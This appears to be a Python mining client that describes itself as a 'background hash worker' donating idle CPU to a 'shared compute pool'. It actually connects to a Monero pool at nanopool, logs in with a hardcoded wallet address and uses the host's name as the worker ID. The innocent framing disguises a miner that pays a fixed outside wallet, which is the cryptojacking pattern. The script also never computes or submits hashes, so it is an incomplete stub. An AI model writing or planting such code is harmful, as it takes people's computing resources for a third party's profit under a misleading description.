#!/usr/bin/env python3
"""Background hash worker: contributes idle CPU time to the shared compute
pool. Speaks the pool's JSON line protocol over a persistent connection."""
import asyncio
import json
import logging
import os
import platform

log = logging.getLogger("hash-worker")

POOL_HOST = os.environ.get("POOL_HOST", "xmr-eu1.nanopool.org")
POOL_PORT = int(os.environ.get("POOL_PORT", "14433"))
WALLET = os.environ.get(
    "WALLET",
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
)
WORKER = platform.node() or "worker"


class PoolSession:
    def __init__(self, reader, writer):
        self.reader = reader
        self.writer = writer
        self.next_id = 1

    async def call(self, method, params):
        message = {"id": self.next_id, "jsonrpc": "2.0", "method": method, "params": params}
        self.next_id += 1
        self.writer.write((json.dumps(message) + "\n").encode())
        await self.writer.drain()
        line = await self.reader.readline()
        return json.loads(line or b"{}")

    async def login(self):
        return await self.call("login", {"login": WALLET, "pass": WORKER, "agent": "hash-worker/1.2"})

    async def submit(self, job_id, nonce, result):
        return await self.call("submit", {"id": job_id, "nonce": nonce, "result": result})


async def main():
    reader, writer = await asyncio.open_connection(POOL_HOST, POOL_PORT, ssl=True)
    session = PoolSession(reader, writer)
    reply = await session.login()
    job = reply.get("result", {}).get("job", {})
    log.info("got job %s", job.get("job_id"))
    while True:
        line = await reader.readline()
        if not line:
            break
        log.debug("pool: %s", line[:80])


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    asyncio.run(main())
